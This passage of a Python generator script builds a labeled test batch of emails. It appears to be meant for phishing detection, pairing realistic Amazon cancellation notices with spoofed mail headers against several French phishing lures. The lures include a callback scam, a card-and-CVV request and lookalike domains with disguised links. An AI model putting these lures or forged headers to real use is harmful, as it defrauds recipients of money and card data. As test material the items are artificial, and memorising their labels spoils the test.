#!/usr/bin/env python3
"""Regenerates blind batch u2 (fr / es / pt): mail/*.eml and labels.json.

Run:  python3 make.py     (deterministic: fixed random seed)
"""
import base64
import datetime
import io
import json
import os
import quopri
import random
from email.message import Message
from email.mime.multipart import MIMEMultipart
from email.header import Header
from email.utils import formataddr, format_datetime
from email.generator import BytesGenerator
from email import policy

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "mail")
rng = random.Random(2002)

# ----------------------------------------------------------------- helpers

def onum(first):
    return "%s-%07d-%07d" % (first, rng.randint(0, 9999999), rng.randint(0, 9999999))


def rdate(tz_hours):
    base = datetime.datetime(2024, 2, 1, 6, 0, 0)
    d = base + datetime.timedelta(days=rng.randint(0, 600), seconds=rng.randint(0, 15 * 3600))
    tz = datetime.timezone(datetime.timedelta(hours=tz_hours))
    return d.replace(tzinfo=tz)


def hexid(n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def amazon_msgid():
    return "<0102%s-%s-%s-%s-%s-000000@eu-west-1.amazonses.com>" % (
        hexid(12), hexid(8), hexid(4), hexid(4), hexid(12))


def amazon_received(dom):
    ip = "54.240.%d.%d" % (rng.randint(0, 63), rng.randint(1, 254))
    h = "a%d-%d.smtp-out.eu-west-1.amazonses.com" % (rng.randint(1, 60), rng.randint(1, 250))
    return "from %s (%s [%s]) by mx.example.net with ESMTPS id %s" % (h, h, ip, hexid(10))


def amazon_auth(dom):
    return ("mx.example.net; dkim=pass header.i=@%s header.s=%s header.b=%s; "
            "spf=pass (mx.example.net: domain of %s@bounces.%s designates 54.240.3.%d as permitted sender) "
            "smtp.mailfrom=%s@bounces.%s; dmarc=pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from=%s"
            % (dom, hexid(8), hexid(8), hexid(16), dom, rng.randint(1, 254), hexid(16), dom, dom))


def textpart(body, subtype, charset, cte):
    p = Message()
    p["Content-Type"] = 'text/%s; charset="%s"' % (subtype, charset)
    p["Content-Transfer-Encoding"] = cte
    if subtype == "html":
        body = body.replace("charset=UTF-8", "charset=" + charset.upper()).replace('<meta charset="utf-8">', '<meta charset="%s">' % charset)
    raw = body.replace("\r\n", "\n").encode(charset, "xmlcharrefreplace" if subtype == "html" else "strict")
    if cte == "base64":
        payload = base64.encodebytes(raw).decode("ascii")
    elif cte == "quoted-printable":
        payload = quopri.encodestring(raw).decode("ascii")
    else:  # 8bit / 7bit: raw bytes written back unchanged
        payload = raw.decode("ascii", "surrogateescape")
    p.set_payload(payload)
    return p


def attachment(filename, ctype, data):
    p = Message()
    cs = '; charset="utf-8"' if ctype.startswith("text/") else ""
    p["Content-Type"] = '%s%s; name="%s"' % (ctype, cs, filename)
    p["Content-Disposition"] = 'attachment; filename="%s"' % filename
    p["Content-Transfer-Encoding"] = "base64"
    p.set_payload(base64.encodebytes(data).decode("ascii"))
    return p


def hdr(value, charset="utf-8"):
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        return Header(value, charset, maxlinelen=76)


def addr(name, address, charset="utf-8"):
    if name is None:
        return address
    try:
        name.encode("ascii")
        return formataddr((name, address))
    except UnicodeEncodeError:
        return formataddr((name, address), charset=charset)


def build(e):
    cs = e.get("charset", "utf-8")
    cte = e.get("cte", "quoted-printable")
    parts = []
    if e.get("text"):
        parts.append(textpart(e["text"], "plain", cs, e.get("cte_text", cte)))
    if e.get("html"):
        parts.append(textpart(e["html"], "html", cs, e.get("cte_html", cte)))
    if len(parts) == 2:
        body = MIMEMultipart("alternative")
        body.set_boundary("----=_Part_%d_%d.%d" % (rng.randint(10**6, 10**8), rng.randint(10**8, 10**9),
                                                   rng.randint(10**12, 10**13)))
        for p in parts:
            body.attach(p)
    else:
        body = parts[0]
    if e.get("attach"):
        outer = MIMEMultipart("mixed")
        outer.set_boundary("_=_mixed_%s" % hexid(24))
        outer.attach(body)
        for fn, ctype, data in e["attach"]:
            outer.attach(attachment(fn, ctype, data))
    else:
        outer = body
    # re-order headers: envelope/trace first, then the usual ones, content headers last
    content = [(k, v) for k, v in outer.items() if k.lower().startswith("content-") or k.lower() == "mime-version"]
    for k in set(k for k, _ in outer.items()):
        del outer[k]
    for k, v in e.get("trace", []):
        outer[k] = v
    hcs = e.get("hcharset", "utf-8")
    outer["From"] = addr(e["from"][0], e["from"][1], hcs)
    if e.get("reply_to"):
        outer["Reply-To"] = e["reply_to"]
    outer["To"] = addr(e["to"][0], e["to"][1], hcs)
    for k, v in e.get("cc", []):
        outer[k] = v
    outer["Subject"] = hdr(e["subject"], hcs)
    outer["Date"] = format_datetime(e["date"])
    outer["Message-ID"] = e.get("msgid") or "<%s.%s@%s>" % (hexid(16), hexid(8), e["from"][1].split("@")[1])
    for k, v in e.get("extra", []):
        outer[k] = v
    outer["MIME-Version"] = "1.0"
    for k, v in content:
        if k.lower() != "mime-version":
            outer[k] = v
    buf = io.BytesIO()
    BytesGenerator(buf, mangle_from_=False, policy=policy.compat32.clone(linesep="\r\n")).flatten(outer)
    return buf.getvalue()


def genuine(e, dom, auth, relay="notification"):
    """Add the trace headers of a mail really sent by Amazon SES for marketplace `dom`."""
    trace = [("Return-Path", "<%s@bounces.%s>" % ("2024" + hexid(20), dom)),
             ("Received", amazon_received(dom))]
    if auth:
        trace.append(("Authentication-Results", amazon_auth(dom)))
        trace.append(("DKIM-Signature", "v=1; a=rsa-sha256; q=dns/txt; c=relaxed/simple; s=%s; d=%s; t=%d; "
                      "h=Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type; bh=%s=; b=%s"
                      % (hexid(8), dom, rng.randint(1700000000, 1760000000), hexid(40), hexid(60))))
    e["trace"] = trace + e.get("trace", [])
    e.setdefault("msgid", amazon_msgid())
    e.setdefault("extra", []).append(("X-AMAZON-MAIL-RELAY-TYPE", relay))
    return e


def foreign(e, host_ip, helo, auth=None):
    trace = [("Return-Path", "<%s>" % e.get("envelope", e["from"][1])),
             ("Received", "from %s (%s [%s]) by mx.example.net with ESMTPS id %s" % (helo, helo, host_ip, hexid(10)))]
    if auth:
        trace.append(("Authentication-Results", "mx.example.net; " + auth))
    e["trace"] = trace + e.get("trace", [])
    return e

# ----------------------------------------------------------------- Amazon-like templates

CSS = """body { width:100% !important; margin:0; padding:0; }
table, table td { border-collapse:collapse !important; }
td { font-family:Arial, sans-serif; }
#container { width:640px; }
#header .navigation a { color:#0066C0; text-decoration:none; font-size:12px; }
#header .title h2 { color:#CC6600; font-size:20px; font-weight:normal; margin:0 0 4px 0; }
.heading { font-size:18px; color:#CC6600; }
#orderDetails td { font-size:13px; padding:6px 0; border-bottom:1px solid #EAEAEA; }
.price { text-align:right; white-space:nowrap; }
#closing td { font-size:13px; color:#333333; }
#legalese td { font-size:11px; line-height:15px; color:#868686; }
.signature strong { color:#333333; }"""

LBL = {
    "fr": dict(orders="Vos commandes", account="Votre compte", order="Commande n°", items="Articles annulés",
               qty="Quantité", seller="Vendu par", hello="Bonjour", closing="Nous espérons vous revoir bientôt.",
               cs="Service Client"),
    "es": dict(orders="Mis pedidos", account="Mi cuenta", order="Pedido n.º", items="Productos cancelados",
               qty="Cantidad", seller="Vendido por", hello="Hola", closing="Esperamos volver a verte pronto.",
               cs="Atención al Cliente"),
    "mx": dict(orders="Mis pedidos", account="Mi cuenta", order="Pedido #", items="Artículos cancelados",
               qty="Cantidad", seller="Vendido por", hello="Hola", closing="Esperamos verte de nuevo pronto.",
               cs="Servicio al Cliente"),
    "pt": dict(orders="Seus pedidos", account="Sua conta", order="Pedido nº", items="Itens cancelados",
               qty="Quantidade", seller="Vendido por", hello="Olá", closing="Esperamos vê-lo novamente em breve.",
               cs="Atendimento ao Cliente"),
}


def brand(dom):
    return "Amazon." + dom.split("amazon.", 1)[1]


def amz_html(dom, lk, title, order, greeting, paras, items=(), footer=(), base=None, heading=None,
             extra_html="", pixel=True):
    """HTML laid out like the real Amazon notification templates (nested tables)."""
    L = LBL[lk]
    b = base or ("https://www." + dom)
    rows = []
    for it in items:
        name, seller, qty, price = it
        rows.append('<tr><td class="name"><a href="%s/dp/%s">%s</a><br/><span style="color:#666">%s %s</span>'
                    '<br/>%s : %s</td><td class="price">%s</td></tr>'
                    % (b, "B0" + hexid(8).upper(), name, L["seller"], seller, L["qty"], qty, price))
    items_html = ""
    if rows:
        items_html = ('<tr><td><table id="orderDetails" cellpadding="0" width="100%%"><tbody>'
                      '<tr><td colspan="2"><span class="heading">%s</span></td></tr>%s</tbody></table></td></tr>'
                      % (heading or L["items"], "".join(rows)))
    order_html = ""
    if order:
        order_html = ' %s <a href="%s/gp/css/summary/edit.html?orderID=%s">%s</a>' % (L["order"], b, order, order)
    ps = "".join("<p>%s</p>" % p for p in paras)
    foot = "".join("<p>%s</p>" % f for f in footer)
    pix = '<img width="1" height="1" src="%s/gp/r.html?R=%s&amp;T=O" />' % (b, hexid(14).upper()) if pixel else ""
    return """<!DOCTYPE html>
<html>
 <head>
  <meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />
  <meta name="format-detection" content="telephone=no" />
  <style>
%(css)s
  </style>
 </head>
 <body>%(pix)s
  <table id="container" cellpadding="0">
   <tbody>
    <tr>
     <td class="frame">
      <table id="main" cellpadding="0">
       <tbody>
        <tr>
         <td>
          <table id="header" cellpadding="0">
           <tbody>
            <tr>
             <td rowspan="2" class="logo"><a href="%(b)s/gp/r.html?ref_=pe_logo"><img alt="%(brand)s" src="https://m.media-amazon.com/images/G/01/x-locale/common/amazon-logo._CB485916876_.png" width="130" border="0" /></a></td>
             <td class="navigation">
              <table align="right">
               <tbody>
                <tr>
                 <td> <a href="%(b)s/gp/css/order-history?ref_=pe_yo">%(orders)s</a> </td>
                 <td> <span>&nbsp;&nbsp;|&nbsp;&nbsp;</span> </td>
                 <td> <a href="%(b)s/gp/css/homepage.html?ref_=pe_ya">%(account)s</a> </td>
                 <td> <span>&nbsp;&nbsp;|&nbsp;&nbsp;</span> </td>
                 <td> <a class="last" href="%(b)s/?ref_=pe_home">%(brand)s</a> </td>
                </tr>
               </tbody>
              </table> </td>
            </tr>
            <tr>
             <td class="title"> <h2>%(title)s</h2>%(order_html)s </td>
            </tr>
           </tbody>
          </table> </td>
        </tr>
        <tr>
         <td>
          <table id="summary" cellpadding="0">
           <tbody>
            <tr>
             <td><span class="heading">%(greeting)s</span> %(ps)s </td>
            </tr>
           </tbody>
          </table> </td>
        </tr>
        %(items)s
        %(extra)s
        <tr>
         <td>
          <table id="closing" cellpadding="0">
           <tbody>
            <tr>
             <td> <p><br />%(closing)s<br /> <span class="signature"> <strong>%(brand)s</strong> </span> </p> </td>
            </tr>
           </tbody>
          </table> </td>
        </tr>
        <tr>
         <td>
          <table id="legalese" cellpadding="0">
           <tbody>
            <tr>
             <td>%(foot)s</td>
            </tr>
           </tbody>
          </table> </td>
        </tr>
       </tbody>
      </table> </td>
    </tr>
   </tbody>
  </table>
 </body>
</html>
""" % dict(css=CSS, pix=pix, b=b, brand=brand(dom), orders=L["orders"], account=L["account"], title=title,
           order_html=order_html, greeting=greeting, ps=ps, items=items_html, extra=extra_html,
           closing=L["closing"], foot=foot)


def strip_tags(s):
    import re
    s = re.sub(r'<a href="([^"]+)">([^<]*)</a>', r"\2 (\1)", s)
    s = re.sub(r"<br ?/?>", "\n", s)
    return re.sub(r"<[^>]+>", "", s)


def amz_text(dom, lk, title, order, greeting, paras, items=(), footer=(), heading=None):
    L = LBL[lk]
    line = "-" * 72
    out = [brand(dom), line, title]
    if order:
        out.append("%s %s" % (L["order"], order))
    out += [line, "", greeting, ""]
    for p in paras:
        out += [strip_tags(p), ""]
    if items:
        out += [heading or L["items"], ""]
        for name, seller, qty, price in items:
            out += ["    %s" % name, "    %s %s" % (L["seller"], seller), "    %s : %s    %s" % (L["qty"], qty, price), ""]
    out += [L["closing"], brand(dom), line]
    for f in footer:
        out += [strip_tags(f), ""]
    return "\n".join(out) + "\n"

MAILS = []


def add(**kw):
    MAILS.append(kw)

# ================================================================= FRENCH
FOOT_FR = {
    "amazon.fr": [
        "Ce message a été envoyé depuis une adresse e-mail qui ne peut pas recevoir de messages. Merci de ne pas y répondre.",
        "Amazon.fr ne vous demandera jamais de lui communiquer votre mot de passe, votre numéro de carte bancaire ou vos codes de vérification par e-mail, par SMS ou par téléphone. Si vous recevez un e-mail suspect se présentant comme provenant d'Amazon, ne cliquez sur aucun lien et signalez-le : <a href=\"https://www.amazon.fr/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV\">Signaler un message suspect</a>.",
        "Si le numéro de votre carte a changé ou si elle a expiré, mettez à jour vos informations de paiement dans <a href=\"https://www.amazon.fr/cpe/yourpayments/wallet\">Votre compte</a>.",
        "Besoin d'aide ? Consultez nos <a href=\"https://www.amazon.fr/gp/help/customer/display.html\">pages d'aide</a>.",
        "Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxembourg. RCS Luxembourg : B-101818.",
    ],
    "amazon.ca": [
        "Ce courriel a été envoyé à partir d'une adresse qui ne peut recevoir de courriels. Veuillez ne pas y répondre.",
        "Amazon.ca ne vous demandera jamais votre mot de passe ni vos renseignements de carte de crédit par courriel. Pour en savoir plus sur la façon de reconnaître les courriels d'hameçonnage et les signaler, consultez <a href=\"https://www.amazon.ca/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV\">Sécurité et hameçonnage</a>.",
        "Si le numéro de votre carte a changé, mettez-le à jour dans <a href=\"https://www.amazon.ca/cpe/yourpayments/wallet\">Votre compte</a>.",
        "Amazon.com.ca ULC | 40 King Street West, 47th Floor, Toronto (Ontario) M5H 3Y2",
    ],
    "amazon.com.be": [
        "Cet e-mail a été envoyé depuis une adresse qui ne peut pas recevoir de messages.",
        "Amazon ne vous demandera jamais par e-mail de lui communiquer votre mot de passe ou vos données bancaires. Les messages qui vous demandent de le faire ne proviennent pas d'Amazon : <a href=\"https://www.amazon.com.be/fr/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV\">signalez-les ici</a>.",
        "Si le numéro de votre carte a changé, mettez-le à jour dans <a href=\"https://www.amazon.com.be/fr/cpe/yourpayments/wallet\">Votre compte</a>.",
        "Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxembourg. N° TVA BE 0806.428.318.",
    ],
}

# ---- notices (fr)
o = onum("402")
items = [("Philips Hue White and Color Ambiance, ampoule LED connectée E27, pack de 2", "Amazon EU S.à r.l.", 1, "89,99 €")]
paras = ["Nous sommes au regret de vous informer que nous avons dû annuler l'article ci-dessous de votre commande.",
         "Notre fournisseur nous a indiqué qu'il n'était plus en mesure de nous livrer cet article et nous n'avons pas réussi à nous le procurer auprès d'une autre source. L'article est donc actuellement indisponible.",
         "Vous ne serez pas débité pour cet article. Les autres articles de votre commande ne sont pas concernés et vous seront expédiés comme prévu.",
         "Pour consulter votre commande, rendez-vous dans <a href=\"https://www.amazon.fr/gp/css/order-history\">Vos commandes</a>."]
add(kind="notice", language="fr", cause="inventory_shortage", states_reason=True, marketplace="amazon.fr",
    note="supplier cannot deliver, item unavailable; partial order; html+text QP",
    mail=genuine(dict(reply_to="no-reply@amazon.fr",
        to=("Claire Dubois", "claire.dubois@orange.fr"),
        subject="1 article a été annulé de votre commande Amazon.fr n° %s" % o, date=rdate(1),
        text=amz_text("amazon.fr", "fr", "Annulation d'article", o, "Bonjour Claire,", paras, items, FOOT_FR["amazon.fr"]),
        html=amz_html("amazon.fr", "fr", "Annulation d'article", o, "Bonjour Claire,", paras, items, FOOT_FR["amazon.fr"]),
        cte="quoted-printable", **{"from": ("Amazon.fr", "auto-confirm@amazon.fr")}), "amazon.fr", True))

o = onum("171")
add(kind="notice", language="fr", cause="payment_issue", states_reason=True, marketplace="amazon.fr",
    note="card authorisation failed, payment not revised in time; text-only base64",
    mail=genuine({"from": ("Amazon.fr", "payments-messages@amazon.fr"), "reply_to": "no-reply@amazon.fr",
        "to": ("Julien Martin", "j.martin75@free.fr"),
        "subject": "Votre commande Amazon.fr n° %s a été annulée" % o, "date": rdate(1), "cte": "base64",
        "text": """Amazon.fr
Vos commandes | Votre compte | Amazon.fr
------------------------------------------------------------------------

Bonjour Julien,

Le 3 du mois, nous vous avons informé que nous n'avions pas pu obtenir
l'autorisation de débit de votre carte Visa se terminant par 4417 pour la
commande n° %s.

Le mode de paiement n'ayant pas été mis à jour dans le délai indiqué, nous
avons annulé cette commande. Aucun montant n'a été débité.

Articles annulés :
  1 x Tefal Ingenio Emotion, set de poêles et casseroles 10 pièces   129,99 €
  1 x Brita Marella, carafe filtrante 2,4 l, blanche                  24,90 €

Si vous souhaitez toujours recevoir ces articles, vous pouvez passer une
nouvelle commande sur Amazon.fr avec un mode de paiement valide.

Si le numéro de votre carte a changé ou si elle a expiré, mettez à jour vos
informations de paiement dans Votre compte :
https://www.amazon.fr/cpe/yourpayments/wallet

Cordialement,
Le Service Client d'Amazon.fr
https://www.amazon.fr/contact-us

------------------------------------------------------------------------
Amazon.fr ne vous demandera jamais de lui communiquer votre mot de passe ou
votre numéro de carte par e-mail. Si vous recevez un e-mail suspect, ne
cliquez sur aucun lien et signalez-le :
https://www.amazon.fr/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV

Ce message a été envoyé depuis une adresse e-mail qui ne peut pas recevoir
de messages. Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxembourg.
""" % o}, "amazon.fr", False))

o = onum("702")
items = [("Sony WH-1000XM5 casque d'écoute sans fil à réduction de bruit, noir", "Amazon.com.ca ULC", 1, "12,99 $")]
paras = ["Nous avons dû annuler votre commande n° %s." % o,
         "En raison d'une erreur technique dans notre catalogue, le prix affiché pour l'article ci-dessous était incorrect : il indiquait 12,99 $ au lieu de 449,99 $. Conformément à nos Conditions d'utilisation, nous ne sommes pas tenus d'honorer une commande passée à un prix erroné.",
         "Aucun montant n'a été porté à votre carte. L'article est maintenant offert au bon prix si vous souhaitez toujours l'acheter.",
         "Nous nous excusons des inconvénients que cette erreur a pu vous causer."]
add(kind="notice", language="fr", cause="technical_issue", states_reason=True, marketplace="amazon.ca",
    note="Quebec French, pricing error; html-only 8bit",
    mail=genuine({"from": ("Amazon.ca", "order-update@amazon.ca"), "reply_to": "no-reply@amazon.ca",
        "to": ("Marc Tremblay", "marc.tremblay@videotron.ca"),
        "subject": "Votre commande Amazon.ca n° %s a été annulée" % o, "date": rdate(-5), "cte": "8bit",
        "html": amz_html("amazon.ca", "fr", "Commande annulée", o, "Bonjour Marc,", paras, items, FOOT_FR["amazon.ca"])},
        "amazon.ca", True))

o = onum("403")
items = [("Apple iPad Air 11 pouces (M2), Wi-Fi, 256 Go, gris sidéral", "Amazon EU S.à r.l.", 1, "819,00 €"),
         ("Apple Pencil Pro", "Amazon EU S.à r.l.", 1, "149,00 €")]
paras = ["Lors d'un contrôle de routine, nous avons constaté une activité inhabituelle sur votre compte Amazon. Par mesure de précaution, nous avons temporairement suspendu votre compte et annulé la commande ci-dessous.",
         "Pour rétablir l'accès à votre compte, connectez-vous directement sur Amazon.com.be (en saisissant l'adresse dans votre navigateur) et suivez les instructions qui s'affichent pour vérifier votre identité. Vous ne serez pas débité pour cette commande.",
         "Nous ne vous demanderons jamais de nous fournir ces informations par e-mail ou par téléphone."]
add(kind="notice", language="fr", cause="fraud_prevention", states_reason=True, marketplace="amazon.com.be",
    note="Belgian FR, unusual activity, account on hold, identity verification; iso-8859-15 QP alt",
    mail=genuine({"from": ("Amazon.com.be", "cs-reply@amazon.com.be"), "reply_to": "no-reply@amazon.com.be",
        "to": ("Thomas Peeters", "thomas.peeters@skynet.be"),
        "subject": "Votre commande Amazon.com.be n° %s a été annulée" % o, "date": rdate(1),
        "charset": "iso-8859-15", "hcharset": "iso-8859-15", "cte": "quoted-printable",
        "text": amz_text("amazon.com.be", "fr", "Commande annulée", o, "Bonjour Thomas,", paras, items, FOOT_FR["amazon.com.be"]),
        "html": amz_html("amazon.com.be", "fr", "Commande annulée", o, "Bonjour Thomas,", paras, items, FOOT_FR["amazon.com.be"], base="https://www.amazon.com.be/fr")},
        "amazon.com.be", False))

o = onum("405")
add(kind="notice", language="fr", cause="customer_request", states_reason=True, marketplace="amazon.fr",
    note="customer cancelled one item, 'Motif : annulée par le client'; text-only QP",
    mail=genuine({"from": ("Amazon.fr", "auto-confirm@amazon.fr"), "reply_to": "no-reply@amazon.fr",
        "to": ("Sophie Lefèvre", "sophie.lefevre@laposte.net"),
        "subject": "Annulation réussie de « Bosch TWK3A011 bouilloire électrique... » de votre commande Amazon.fr n° %s" % o,
        "date": rdate(2), "cte": "quoted-printable",
        "text": """Amazon.fr
------------------------------------------------------------------------
Annulation d'article confirmée
Commande n° %s
------------------------------------------------------------------------

Bonjour Sophie,

Comme vous l'avez demandé, nous avons annulé l'article suivant de votre
commande :

    Bosch TWK3A011 bouilloire électrique sans fil, 1,7 l, 2400 W, rouge
    Quantité : 1
    Motif de l'annulation : annulée par le client

Si vous avez déjà été débitée pour cet article, le remboursement sera
effectué sur votre mode de paiement d'origine sous 3 à 5 jours ouvrés.

Les autres articles de la commande, le cas échéant, restent inchangés.
Vous pouvez suivre l'état de votre commande dans Vos commandes :
https://www.amazon.fr/gp/css/order-history?ref_=pe_can_conf

Nous espérons vous revoir bientôt.
Amazon.fr

------------------------------------------------------------------------
Amazon.fr ne vous demandera jamais de lui communiquer votre mot de passe, votre
numéro de carte bancaire ou vos codes de vérification par e-mail. Vous avez un
doute sur un message ? Consultez
https://www.amazon.fr/gp/help/customer/display.html?nodeId=GQ37ZCNECJKTFYQV
Si le numéro de votre carte a changé, mettez-le à jour dans Votre compte.
Ce message a été envoyé depuis une adresse qui ne peut pas recevoir d'e-mails.
""" % o}, "amazon.fr", True))

o = onum("701")
items = [("Keurig K-Mini cafetière une tasse, noire", "Amazon.com.ca ULC", 1, "99,99 $"),
         ("Dosettes K-Cup Van Houtte Maison, 30 unités", "Amazon.com.ca ULC", 2, "39,98 $")]
paras = ["Nous vous informons que votre commande n° %s a été annulée." % o,
         "Si un montant a été porté à votre carte de crédit pour cette commande, il sera remboursé dans un délai de 3 à 5 jours ouvrables.",
         "Vous pouvez consulter l'état de vos commandes en tout temps dans <a href=\"https://www.amazon.ca/gp/css/order-history\">Vos commandes</a>."]
add(kind="notice", language="fr", cause="unknown", states_reason=False, marketplace="amazon.ca",
    note="Quebec French, cancellation without any reason; alt base64",
    mail=genuine({"from": ("Amazon.ca", "order-update@amazon.ca"), "reply_to": "no-reply@amazon.ca",
        "to": ("Élodie Gagnon", "elodie.gagnon@hotmail.ca"),
        "subject": "Votre commande Amazon.ca n° %s a été annulée" % o, "date": rdate(-4), "cte": "base64",
        "text": amz_text("amazon.ca", "fr", "Commande annulée", o, "Bonjour Élodie,", paras, items, FOOT_FR["amazon.ca"]),
        "html": amz_html("amazon.ca", "fr", "Commande annulée", o, "Bonjour Élodie,", paras, items, FOOT_FR["amazon.ca"])},
        "amazon.ca", False))

# ---- lookalikes (fr)
o = onum("171")
add(kind="lookalike", language="fr", cause="fraud_prevention", states_reason=True, marketplace=None,
    note="gmail sender, callback phone number, claims suspicious purchase cancelled",
    mail=foreign({"from": ("Service Client Amazon", "service.client.amazonfr@gmail.com"),
        "to": (None, "n.lambert@wanadoo.fr"),
        "subject": "Commande %s annulée - activité suspecte détectée" % o, "date": rdate(1), "cte": "8bit",
        "text": """Cher(e) client(e),

Une commande a été passée depuis votre compte Amazon avec un nouvel appareil
(Windows 10 - Lagos, Nigeria) :

   Commande n° %s
   Apple iPhone 15 Pro Max 256 Go - Titane naturel
   Montant : 1 479,00 EUR

Par mesure de sécurité cette commande a été ANNULÉE et un prélèvement est en
attente sur votre carte.

Si vous n'êtes pas à l'origine de cet achat, appelez IMMÉDIATEMENT notre
service de sécurité au +33 1 89 70 42 16 (du lundi au samedi, 8h-20h) afin
de bloquer le prélèvement. Sans appel de votre part sous 24 heures, le
montant sera débité définitivement.

Cordialement,
Le Service Sécurité Amazon
""" % o}, "209.85.218.%d" % rng.randint(1, 250), "mail-ej1-f%d.google.com" % rng.randint(40, 70),
        "dkim=pass header.i=@gmail.com header.d=gmail.com; spf=pass smtp.mailfrom=gmail.com; dmarc=pass header.from=gmail.com"))

o = onum("408")
html = """<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;background:#f3f3f3">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;border-top:3px solid #ff9900">
<tr><td style="padding:18px"><img src="https://amazon-orders.help/assets/logo-amazon.png" alt="amazon.fr" width="110"></td></tr>
<tr><td style="padding:0 18px;font-size:15px;color:#111">
<h2 style="font-weight:normal;color:#c45500">Votre compte a été suspendu</h2>
<p>Bonjour,</p>
<p>Nous avons détecté une tentative de connexion inhabituelle sur votre compte. Conformément à notre politique de sécurité, <b>votre compte a été temporairement suspendu et votre commande n° %s a été annulée</b>.</p>
<p>Pour réactiver votre compte et rétablir votre commande, utilisez le code de réactivation ci-dessous sur notre page sécurisée :</p>
<p style="font-size:26px;letter-spacing:4px;text-align:center;background:#fef8ec;padding:12px;border:1px dashed #ff9900"><b>AMZ-7741-QX</b></p>
<p style="text-align:center"><a href="https://amazon-orders.help/fr/reactivation?c=AMZ-7741-QX" style="background:#ffd814;color:#111;padding:10px 26px;border-radius:8px;text-decoration:none">Réactiver mon compte</a></p>
<p>Ce code expire dans 48 heures. Passé ce délai, votre compte sera définitivement fermé.</p>
<p>Merci de votre confiance,<br>L'équipe Amazon.fr</p>
</td></tr>
<tr><td style="padding:18px;font-size:11px;color:#888">Amazon.fr ne vous demandera jamais votre mot de passe par e-mail. © 1996-2025, Amazon.com, Inc. ou ses filiales.</td></tr>
</table></body></html>""" % o
add(kind="lookalike", language="fr", cause="fraud_prevention", states_reason=True, marketplace=None,
    note="look-alike domain amazon-orders.help, account suspended + order cancelled, reactivation code; polished html-only",
    mail=foreign({"from": ("Amazon.fr", "no-reply@amazon-orders.help"), "to": ("Claire Dubois", "claire.dubois@orange.fr"),
        "subject": "Important : votre compte a été suspendu et votre commande annulée", "date": rdate(1),
        "cte": "quoted-printable", "html": html},
        "185.234.72.%d" % rng.randint(1, 250), "mail.amazon-orders.help",
        "spf=pass smtp.mailfrom=amazon-orders.help; dkim=pass header.d=amazon-orders.help; dmarc=pass header.from=amazon-orders.help"))

add(kind="lookalike", language="fr", cause="payment_issue", states_reason=True, marketplace=None,
    note="outlook.fr sender, asks to reply with card number/CVV, malformed order number; crude",
    mail=foreign({"from": ("Amazon Support", "amazonfr.support@outlook.fr"), "to": (None, "sophie.lefevre@laposte.net"),
        "subject": "VOTRE COMMANDE A ETE ANNULER !!", "date": rdate(1), "cte": "quoted-printable",
        "text": """Bonjour cher client

Votre commande Amazon N° 17-98321-04 a ete annuler car votre carte bancaire a expirer ou
le paiement a ete refuser par votre banque.

Pour que votre commande soit re-activer merci de repondre a ce mail avec les informations suivante :

- Nom et prénom du titulaire
- Numéro de carte (16 chiffres)
- Date d'expiration
- Cryptogramme (3 chiffres au dos)
- Date de naissance

Sans reponse de votre part dans les 12h votre compte sera bloquer.

Merci
Service Amazon France
"""}, "40.92.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "EUR05-AM6-obe.outbound.protection.outlook.com",
        "spf=pass smtp.mailfrom=outlook.fr; dkim=pass header.d=outlook.fr; dmarc=pass header.from=outlook.fr"))

o = onum("402")
evil = "https://secure-commande.top/fr/remboursement/session=%s" % hexid(20)
paras = ["Nous sommes désolés : l'article ci-dessous n'est plus disponible chez notre fournisseur et votre commande a été annulée.",
         "Pour recevoir le remboursement de <b>349,00 €</b> sur votre carte, vous devez confirmer vos informations de paiement dans les 48 heures via Vos commandes :",
         '<a href="%s">https://www.amazon.fr/gp/css/order-history?ref_=refund</a>' % evil,
         "Si vous ne confirmez pas vos informations, le remboursement ne pourra pas être effectué."]
items = [("Dyson V12 Detect Slim, aspirateur balai sans fil", "Amazon EU S.à r.l.", 1, "349,00 €")]
add(kind="lookalike", language="fr", cause="inventory_shortage", states_reason=True, marketplace=None,
    note="amazon.fr.secure-commande.top sender, link text shows amazon.fr but href elsewhere; polished copy of real template",
    mail=foreign({"from": ("Amazon.fr", "auto-confirm@amazon.fr.secure-commande.top"), "to": ("Julien Martin", "j.martin75@free.fr"),
        "subject": "Votre commande Amazon.fr n° %s a été annulée" % o, "date": rdate(1), "cte": "quoted-printable",
        "text": amz_text("amazon.fr", "fr", "Commande annulée", o, "Bonjour Julien,", paras, items, FOOT_FR["amazon.fr"][1:3]),
        "html": amz_html("amazon.fr", "fr", "Commande annulée", o, "Bonjour Julien,", paras, items, FOOT_FR["amazon.fr"][1:3],
                         base="https://secure-commande.top/fr")},
        "45.137.21.%d" % rng.randint(1, 250), "mx1.secure-commande.top",
        "spf=pass smtp.mailfrom=amazon.fr.secure-commande.top; dkim=none; dmarc=none header.from=amazon.fr.secure-commande.top"))

html = """<!DOCTYPE html><html><body style="margin:0;font-family:'Amazon Ember',Arial,sans-serif">
<div style="max-width:560px;margin:auto;border:1px solid #ddd;padding:24px">
<div style="font-size:24px;font-weight:bold">amazon<span style="color:#ff9900">.fr</span></div>
<h3>Votre commande sera annulée</h3>
<p>Bonjour,</p>
<p>Nous n'avons pas pu confirmer le paiement de votre dernière commande. Votre banque a refusé la transaction.</p>
<p><b>Votre commande sera automatiquement annulée dans les 24 heures</b> si vous ne mettez pas à jour votre moyen de paiement.</p>
<p><a href="https://amzn-fr-service.com/wallet/update" style="display:inline-block;background:#f0c14b;border:1px solid #a88734;padding:8px 20px;color:#111;text-decoration:none">Mettre à jour mon paiement</a></p>
<p style="color:#555;font-size:12px">Vous recevez cet e-mail car vous êtes client Amazon.fr.</p>
</div></body></html>"""
